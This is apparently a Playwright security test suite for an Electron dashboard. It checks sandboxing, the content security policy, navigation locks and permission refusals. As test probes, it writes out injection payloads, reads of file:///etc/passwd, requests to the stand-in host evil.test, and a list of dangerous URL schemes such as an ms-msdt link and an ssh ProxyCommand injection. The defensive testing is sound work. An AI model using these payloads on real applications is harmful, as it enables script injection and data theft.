import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { ElectronApplication, Page } from 'playwright/test';
import { contentSecurityPolicy } from '../../main/transport/content-policy.ts';
import { controlOf, expect, test } from './fixtures.ts';
import { shellProgram } from './shell-program.ts';

const addressOf = (app: ElectronApplication) =>
  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL());
/** The page shows what came through the port. */
const expectData = (page: Page) => expect(page.getByRole('contentinfo')).toContainText(/Queue: .*waiting/);

/** Keeps what the system is asked to open, instead of opening it. */
const catchOpened = (app: ElectronApplication) =>
  app.evaluate(({ shell: system }) => {
    const opened: string[] = [];
    Reflect.set(globalThis, 'opened', opened);
    system.openExternal = async (address) => void opened.push(address);
  });
const openedBy = (app: ElectronApplication) =>
  app.evaluate(() => [...new Set(Reflect.get(globalThis, 'opened') as string[])].toSorted());

/** One at a time: the browser behind the stand-in does not bear dozens that are closed while they open. */
const expectOneWindow = (app: ElectronApplication) => expect.poll(() => app.windows().length).toBe(1);

/** Counts what the page's guards are asked, so that a test can wait until an attempt has come to them. */
const countAttempts = (app: ElectronApplication) =>
  app.evaluate(({ BrowserWindow }) => {
    Reflect.set(globalThis, 'asked', 0);
    const contents = BrowserWindow.getAllWindows()[0]?.webContents;
    contents?.on('will-navigate', () => Reflect.set(globalThis, 'asked', Number(Reflect.get(globalThis, 'asked')) + 1));
  });
const attemptsOf = (app: ElectronApplication) => app.evaluate(() => Reflect.get(globalThis, 'asked') as number);

test('the window is locked down: its preferences, no Node, one bridge, no guest page, no file [S01]', async ({
  shell,
}) => {
  const page = await shell.page();
  await expectData(page);
  const found = await shell.app.evaluate(({ app, webContents }) => ({
    isSandboxed: app.commandLine.hasSwitch('enable-sandbox'),
    // Electron's typings leave this method out; its security guide tells to read it.
    preferences: webContents
      .getAllWebContents()
      .map((contents) =>
        (contents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences(),
      ),
  }));
  expect(found.isSandboxed).toBe(true);
  expect(found.preferences).toHaveLength(1);
  const golden = {
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInWorker: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    experimentalFeatures: false,
    webviewTag: false,
    navigateOnDragDrop: false,
    spellcheck: false,
    preload: path.resolve(import.meta.dirname, '../../out/preload/index.cjs'),
  };
  const [preferences = {}] = found.preferences;
  if (shellProgram().kind === 'stand-in') expect(preferences).toEqual(golden);
  else expect(preferences).toMatchObject(golden);
  expect(
    Object.keys(preferences).filter((name) => /^(enableBlinkFeatures|plugins|enableRemoteModule)$/.test(name)),
  ).toEqual([]);

  const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'];
  const inside = await page.evaluate((globals) => {
    const bridge = Reflect.get(window, 'atalaya') as Record<string, unknown>;
    const set = Reflect.set(bridge, 'connect', () => 'hacked') || Reflect.set(bridge, 'more', 1);
    return {
      node: globals.filter((name) => typeof Reflect.get(window, name) !== 'undefined'),
      bridge: Object.fromEntries(Object.keys(bridge).map((name) => [name, typeof bridge[name]])),
      set,
      replaced: Reflect.set(window, 'atalaya', null) || Reflect.deleteProperty(window, 'atalaya'),
    };
  }, names);
  expect(inside).toEqual({
    node: [],
    bridge: {
      connect: 'function',
      onNavigate: 'function',
      pathForFile: 'function',
      pickFiles: 'function',
      platform: 'string',
    },
    set: false,
    replaced: false,
  });

  const ways = await page.evaluate(async () => {
    const guest = document.createElement('webview');
    guest.setAttribute('src', 'https://evil.test/');
    document.body.append(guest);
    const picture = new Image();
    const seen = new Promise((resolve) => {
      picture.onload = () => resolve('shown');
      picture.onerror = () => resolve('refused');
    });
    picture.src = 'file:///usr/share/pixmaps/debian-logo.png';
    return {
      guest: 'getWebContentsId' in guest,
      fetched: await fetch('file:///etc/passwd').then(
        () => 'read',
        () => 'refused',
      ),
      asked: await new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onerror = () => resolve('refused');
        request.onload = () => resolve('read');
        request.open('GET', 'file:///etc/passwd');
        request.send();
      }),
      picture: await seen,
    };
  });
  expect(ways).toEqual({ guest: false, fetched: 'refused', asked: 'refused', picture: 'refused' });
  expect(await shell.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1);
});

test('a tour of the window asks for nothing but itself, and every answer carries the policy [S01]', async ({
  shell,
}) => {
  const page = await shell.page();
  await expectData(page);
  const home = new URL(page.url()).origin;
  const asked: string[] = [];
  const policies: [string, string | undefined][] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('response', (response) => {
    if (response.url().startsWith(home)) policies.push([response.url(), response.headers()['content-security-policy']]);
  });
  await page.reload();
  await expectData(page);
  for (const name of ['Queue', 'Services', 'Logs', 'Settings', 'Overview']) {
    await page.getByRole('navigation').getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  const statuses = await page.evaluate(async () => {
    const status = async (where: string, method = 'GET') => (await fetch(where, { method })).status;
    return [
      await status('/assets/none.js'),
      await status('/api/v1/jobs'),
      await status('/api/v1/jobs/1/media/result'),
      await status('/', 'POST'),
      await status('/%2e%2e%2fpackage.json'),
    ];
  });
  expect(statuses).toEqual([404, 404, 404, 405, 404]);
  expect(asked.filter((address) => !/^(data|blob):/.test(address) && !address.startsWith(`${home}/`))).toEqual([]);
  expect(policies.length).toBeGreaterThan(10);
  expect(policies.filter(([, policy]) => policy !== contentSecurityPolicy)).toEqual([]);
});

test('the policy stops every way in that a text could open, each by its own rule [S01] [S27]', async ({ shell }) => {
  const page = await shell.page();
  await expectData(page);
  // The browser's tools name a request even when the policy kept it from being made.
  const made: string[] = [];
  page.on('requestfinished', (request) => made.push(request.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') made.push(request.url());
  });
  const thrown = await page.evaluate(async () => {
    // A text that the test's own tools run may use eval; what runs in a timer is as bound as the page.
    await new Promise((resolve) => setTimeout(resolve));
    const heard = new Set<string>();
    Reflect.set(window, 'heard', heard);
    document.addEventListener('securitypolicyviolation', (event) => heard.add(event.effectiveDirective));
    const make = (name: string, attributes: Record<string, string>, content = '') => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.append(content);
      document.body.append(element);
      return element;
    };
    const hack = 'window.hacked = true';
    const ways: Record<string, () => unknown> = {
      // The ways in themselves, which the linter would rather not see.
      // oxlint-disable-next-line no-eval
      eval: () => (0, eval)(hack),
      // oxlint-disable-next-line typescript/no-implied-eval
      'new Function': () => new Function(hack)(),
      // oxlint-disable-next-line typescript/no-implied-eval
      'a text for a timer': () => setTimeout(hack),
      innerHTML: () => (document.body.innerHTML = `<img src=x onerror="${hack}">`),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', `<svg onload="${hack}">`),
      'document.write': () => document.write(`<script>${hack}</script>`),
      srcdoc: () => make('iframe', { srcdoc: `<script>parent.${hack}</script>` }),
      'a parser': () => new DOMParser().parseFromString(`<script>${hack}</script>`, 'text/html'),
      'a policy of its own': () =>
        (Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }).createPolicy(
          'x',
          {
            createHTML: (text: string) => text,
          },
        ),
      'an inline script': () => make('script', {}, hack),
      'a foreign script': () => make('script', { src: 'https://evil.test/x.js' }),
      'an inline handler': () => make('img', { src: 'x', onerror: hack }),
      'a script for an address': () => make('a', { href: `javascript:${hack}` }).click(),
      'a worker': () => new Worker('data:text/javascript,1'),
      'an inline style': () => make('style', {}, '@import "https://evil.test/x.css"'),
      'a style attribute': () => make('p', { style: 'background: url(https://evil.test/x)' }),
      'a foreign picture': () => make('img', { src: 'https://evil.test/x.png' }),
      'a foreign sound': () => make('audio', { src: 'https://evil.test/x.mp3' }),
      'a foreign fetch': () => void fetch('https://evil.test/').catch(() => {}),
      'a foreign socket': () => new WebSocket('wss://evil.test/'),
      'a beacon': () => navigator.sendBeacon('https://evil.test/', 'x'),
      'a foreign frame': () => make('iframe', { src: 'https://evil.test/' }),
      'a plug-in': () => make('object', { data: 'https://evil.test/x' }),
      'an embedded thing': () => make('embed', { src: 'https://evil.test/x' }),
      'another base': () => make('base', { href: 'https://evil.test/' }),
      'a foreign font': () => void new FontFace('x', 'url(https://evil.test/x)').load().catch(() => {}),
      'a form': () => (make('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement).submit(),
    };
    const thrown: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      try {
        way();
      } catch {
        thrown.push(name);
      }
    }
    return thrown;
  });
  expect(thrown).toEqual([
    'eval',
    'new Function',
    'a text for a timer',
    'innerHTML',
    'insertAdjacentHTML',
    'document.write',
    'srcdoc',
    'a parser',
    'a policy of its own',
    'a foreign script',
    'an inline handler',
    'a worker',
    'a plug-in',
    'an embedded thing',
  ]);
  const heard = () => page.evaluate(() => [...(Reflect.get(window, 'heard') as Set<string>)].toSorted());
  await expect
    .poll(heard)
    .toEqual([
      'base-uri',
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
      'trusted-types',
    ]);
  expect(await page.evaluate(() => Reflect.get(window, 'hacked') as unknown)).toBeUndefined();
  expect(made.filter((address) => address.includes('evil.test'))).toEqual([]);
});

test('the page stays where it is, whatever moves it, and the logs say by which origin [S01] [S25]', async ({
  shell,
}) => {
  const { app } = shell;
  const page = await shell.page();
  await expectData(page);
  await catchOpened(app);
  await countAttempts(app);
  await page.evaluate(() => Reflect.set(window, 'stillHere', true));
  let asked = 0;
  const expectAsked = (more: number) => expect.poll(() => attemptsOf(app)).toBe((asked += more));

  for (const address of [
    'app://evil/',
    'file:///etc/passwd',
    'https://example.com/help',
    'http://example.com/?secret=1',
  ]) {
    const isWeb = address.startsWith('http');
    await page.evaluate((to) => void (window.location.href = to), address);
    if (isWeb) await expectAsked(1);
    await page.evaluate((to) => {
      const link = document.createElement('a');
      link.href = to;
      document.body.append(link);
      link.click();
      link.remove();
    }, address);
    if (isWeb) await expectAsked(1);
  }
  await page.evaluate(() => window.location.replace('https://example.com/replaced'));
  await expectAsked(1);
  await page.evaluate(() => {
    const refresh = document.createElement('meta');
    refresh.httpEquiv = 'refresh';
    refresh.content = '0;url=https://example.com/refreshed';
    document.head.append(refresh);
  });
  await expectAsked(1);
  const refused = await page.evaluate(async () => {
    const form = document.createElement('form');
    form.action = 'https://example.com/form';
    document.body.append(form);
    const rule = new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
        once: true,
      });
    });
    form.submit();
    window.open('https://example.com/window', 'x');
    try {
      history.pushState(null, '', 'https://example.com/');
      return ['went through'];
    } catch (error) {
      return [(error as Error).name, await rule];
    }
  });
  expect(refused).toEqual(['SecurityError', 'form-action']);

  // A frame of our own page may not leave it either, and a redirect is asked about by itself.
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow?.location.assign('/queue');
  });
  const prevented = await app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents;
    const isPrevented = (event: string, url: string, more: object = {}) => {
      let answer = false;
      contents?.emit(event as 'will-redirect', { url, preventDefault: () => (answer = true), ...more } as never);
      return answer;
    };
    return {
      redirect: isPrevented('will-redirect', 'https://evil.test/', { isMainFrame: true }),
      ownRedirect: isPrevented('will-redirect', 'app://atalaya/queue', { isMainFrame: true }),
      frame: isPrevented('will-frame-navigate', 'app://atalaya/', { isMainFrame: false }),
      webview: isPrevented('will-attach-webview', ''),
    };
  });
  expect(prevented).toEqual({ redirect: true, ownRedirect: false, frame: true, webview: true });

  expect(await page.evaluate(() => Reflect.get(window, 'stillHere') as unknown)).toBe(true);
  expect(await addressOf(app)).toBe('app://atalaya/');
  await expect
    .poll(() => openedBy(app))
    .toEqual([
      'https://example.com/help',
      'https://example.com/refreshed',
      'https://example.com/replaced',
      'https://example.com/window',
    ]);

  const answer = await controlOf(shell.dataFolder).request('/api/v1/logs?text=refused');
  const { lines } = (await answer.json()) as { lines: { message: string; fields: unknown }[] }; // our own answer
  expect(lines).toContainEqual(
    expect.objectContaining({
      message: 'navigation refused',
      fields: expect.objectContaining({ address: 'http://example.com' }),
    }),
  );
  expect(JSON.stringify(lines)).not.toContain('secret=1');
});

/** Drags something over the middle of the page and lets it fall, as the system would. */
async function dropOn(page: Page, data: { files?: string[]; items?: { mimeType: string; data: string }[] }) {
  const session = await page.context().newCDPSession(page);
  const event = { x: 300, y: 300, data: { items: [], ...data, dragOperationsMask: 1 } };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await session.send('Input.dispatchDragEvent', { type, ...event });
  await session.detach();
}

const dangerous = [
  'file:///usr/bin/x',
  'smb://server/share',
  'ms-msdt:/id PCWDiagnostic',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'ssh://-oProxyCommand=x',
  'mailto:a@example.com?attach=/etc/passwd',
  'https://user@evil.test/',
  'http://evil.test/',
  'https://xn--pple-43d.com/',
  `https://example.com/${'a'.repeat(10_000)}`,
  '\\\\srv\\share',
  'app://atalaya/settings',
  'about:blank',
];

test('nothing that is dropped on the window is opened, and a link is taken as a source [S25]', async ({
  shell,
  folder,
}) => {
  const { app } = shell;
  const page = await shell.page();
  await expectData(page);
  await catchOpened(app);
  page.on('dialog', (dialog) => void dialog.dismiss());
  const dialog = page.getByRole('dialog', { name: 'Add videos' });
  for (const address of dangerous) {
    await dropOn(page, { items: [{ mimeType: 'text/uri-list', data: address }] });
    if (!/^https?:/.test(address)) continue;
    await expect(dialog.getByRole('listitem')).toHaveCount(1);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
  const dropped = path.join(folder, 'page.html');
  writeFileSync(dropped, '<title>foreign</title>');
  await dropOn(page, { files: [dropped] });
  await expect(dialog).toContainText('page.html');
  await page.keyboard.press('Escape');
  await dropOn(page, { items: [{ mimeType: 'text/html', data: '<img src=x onerror=alert(1)>' }] });
  await dropOn(page, { items: [{ mimeType: 'text/plain', data: 'javascript:alert(1)' }] });
  await expect(dialog).toBeHidden();
  await dropOn(page, { items: [{ mimeType: 'text/uri-list', data: 'https://example.com/clip.mp4' }] });
  await expect(dialog).toContainText('clip.mp4');
  expect(await openedBy(app)).toEqual([]);
  expect(await addressOf(app)).toBe('app://atalaya/');
});

test('the system is asked to open none of the addresses that start something [S25]', async ({ shell }) => {
  const { app } = shell;
  const page = await shell.page();
  await expectData(page);
  await catchOpened(app);
  for (const address of dangerous) {
    await page.evaluate((to) => void window.open(to), address);
    await expectOneWindow(app);
    await page.evaluate((to) => {
      const link = document.createElement('a');
      link.href = to;
      link.target = '_blank';
      document.body.append(link);
      link.click();
    }, address);
    await expectOneWindow(app);
  }
  await page.evaluate(() => void window.open('https://example.com/last'));
  await expect.poll(() => openedBy(app)).toEqual(['https://example.com/last']);
  await expectOneWindow(app);
  await expectData(page);
});

test('a page can open no window, however it tries [S01]', async ({ shell }) => {
  const { app } = shell;
  const page = await shell.page();
  await expectData(page);
  await catchOpened(app);
  for (const [address, name, features] of [
    ['https://example.com/one'],
    ['about:blank'],
    ['/queue'],
    ['https://example.com/one', '_blank', 'popup,noopener,width=100,height=100'],
  ] as const) {
    await page.evaluate((given) => void window.open(...given), [address, name, features] as const);
    await expectOneWindow(app);
  }
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'https://example.com/two';
    link.target = '_blank';
    link.id = 'leaves';
    link.textContent = 'leaves';
    document.body.append(link);
    link.style.cssText = 'position:fixed;inset:0 auto auto 0;z-index:99999;background:#fff';
    const form = document.createElement('form');
    form.action = '/queue';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  });
  for (const modifiers of [[], ['Control'], ['Shift']] as const)
    await page.click('#leaves', { modifiers: [...modifiers] });
  await page.click('#leaves', { button: 'middle' });
  await expect.poll(() => openedBy(app)).toEqual(['https://example.com/one', 'https://example.com/two']);
  await expectOneWindow(app);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

test('permissions are refused, but for copying and full screen [S01]', async ({ shell }) => {
  const page = await shell.page();
  await expectData(page);
  const answers = await page.evaluate(async () => {
    const nameOf = (error: unknown) => (error as Error).name;
    return {
      notifications: await Notification.requestPermission(),
      location: await new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          (error) => resolve(error.code),
        );
      }),
      camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted', nameOf),
      screen: await navigator.mediaDevices.getDisplayMedia().then(() => 'granted', nameOf),
      reading: await navigator.clipboard.readText().then(() => 'granted', nameOf),
      copying: await navigator.clipboard.writeText('x').then(() => 'granted', nameOf),
      query: (await navigator.permissions.query({ name: 'geolocation' })).state,
    };
  });
  expect(answers).toEqual({
    notifications: 'denied',
    location: 1,
    camera: 'NotAllowedError',
    screen: 'NotAllowedError',
    reading: 'NotAllowedError',
    copying: 'granted',
    query: 'denied',
  });
});

test('what a page asks of the bridge with nonsense changes nothing, and a frame of it has no bridge [S24]', async ({
  shell,
}) => {
  const page = await shell.page();
  await expectData(page);
  const found = await page.evaluate(async () => {
    const bridge = Reflect.get(window, 'atalaya') as Record<string, (...values: unknown[]) => unknown>;
    const values = [null, 42, 'x'.repeat(1_000_000), [[]], { __proto__: { polluted: 1 } }, () => 1, Symbol('x')];
    for (const value of values) {
      for (const name of ['connect', 'pathForFile', 'pickFiles', 'onNavigate']) {
        try {
          await bridge[name]?.(value, value);
        } catch {
          // Refused before it left the page.
        }
      }
    }
    for (let times = 0; times < 200; times += 1) bridge['connect']?.();
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return { frame: typeof Reflect.get(frame.contentWindow ?? {}, 'atalaya') };
  });
  expect(found.frame).toBe('undefined');
  await page.reload();
  await expectData(page);
});

test('an error that nobody expected ends the console in order, and the logs hold it', async ({ shell }) => {
  await expectData(await shell.page());
  const { app } = shell;
  const ended = new Promise<number | null>((resolve) => app.process().once('exit', resolve));
  await app.evaluate(() => {
    setTimeout(() => {
      throw new Error('a bug of the test');
    });
  });
  expect(await ended).toBe(1);
  const log = readFileSync(path.join(shell.dataFolder, 'logs', 'dashboard.log'), 'utf8');
  expect(log).toContain('a bug of the test');
});
